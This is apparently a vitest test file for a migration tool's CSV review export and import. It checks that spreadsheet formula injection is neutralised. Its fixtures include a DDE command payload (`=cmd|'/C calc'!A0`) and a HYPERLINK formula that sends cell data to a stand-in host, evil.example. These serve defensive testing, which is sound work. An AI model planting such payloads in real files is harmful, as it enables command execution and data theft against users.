import { parse } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import { printInventory } from '../../../src/migrate/state/inventory-file.ts';
import { listDecisions } from '../../../src/migrate/state/old-url.ts';
import { type Decision, printReview } from '../../../src/migrate/state/review-file.ts';
import { oldUrl } from '../../migrate/support/old.ts';
import { project } from './review-project.ts';

/** Texts that some spreadsheet runs, in whatever country, or that lose a sign on the way. */
const texts = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  `=cmd|'/C calc'!A0`,
  '=HYPERLINK("https://evil.example/?x="&A2,"open")',
  '＝1+1',
  "'=1+1",
  "''@x",
  'Pumps;=1+1;-2',
  'Pumps\n=1+1\r\n\t@x',
  '/x;=HYPERLINK("https://evil.example")',
  'Plain - with = and @',
  '_x0041_ and _x000d_',
  '"=1+1"',
];
const sign = /^[\s]*[=+\-@＝＋－＠]/;

/** A note as a sheet can say it: blanks around it are nobody's meaning. */
const notes = texts.map((text) => text.trim());
const urls = texts.map((_, at) => `/old/${at}_x0041_`);
/** The columns of the desk, which nobody filled in. */
const blank = { note: '', when: '', who: '' };
const decisions = new Map(
  urls.map((url, at): [string, Decision] => {
    const note = notes[at] ?? '';
    const free = { '=Note': note, "'=Other": note, ...blank };
    return [url, { target: '/news/a/', status: 'accepted', owner: note, free }];
  }),
);

const move = () =>
  project({
    'migration/inventory.csv': [
      ...printInventory(urls.map((url, at) => oldUrl(url, { title: texts[at] ?? '' }))),
    ].join(''),
    'migration/review.csv': printReview(decisions),
  });

/** The cells of a CSV file, as a spreadsheet reads it with this sign between them. */
function cellsOf(text: string, delimiter: string): string[] {
  const options = { delimiter, relax_quotes: true, relax_column_count: true, record_delimiter: ['\n', '\r'] };
  return parse(text, options).flat();
}

describe('review --export with formulas in URLs and titles', () => {
  test.each([',', ';'])('has no formula where a spreadsheet splits it at %s', async (delimiter) => {
    const { review, path, text } = await move();
    expect((await review('--export', path('sheet.csv'), '--all')).exit).toBe(0);
    for (const file of ['sheet.csv', 'migration/inventory.csv', 'migration/review.csv']) {
      const cells = cellsOf(text(file), delimiter);
      expect(cells.join('\n')).toContain('HYPERLINK');
      expect(cells.filter((cell) => sign.test(cell))).toEqual([]);
    }
  });
});

test('review --import reads the original texts from a sheet that --export wrote', async () => {
  const { review, path, text, state, write } = await move();
  const exported = () => review('--export', path('sheet.csv'), '--all');
  expect((await exported()).exit).toBe(0);
  const imported = () => review('--import', path('sheet.csv'), '--yes');
  expect((await imported()).err).toContain(`0 changes, ${texts.length} unchanged`);
  // The same sheet with another decision in each row, so that all of them are taken from it.
  await write('sheet.csv', text('sheet.csv').replaceAll(',accepted,', ',open,'));
  expect((await imported()).err).toContain(`${texts.length} changes, 0 unchanged`);
  const open = Array.from(decisions, ([url, decision]): [string, Decision] => {
    return [url, { ...decision, target: '', status: 'open' }];
  });
  expect(listDecisions((await state()).inventory)).toEqual(new Map(open));
});
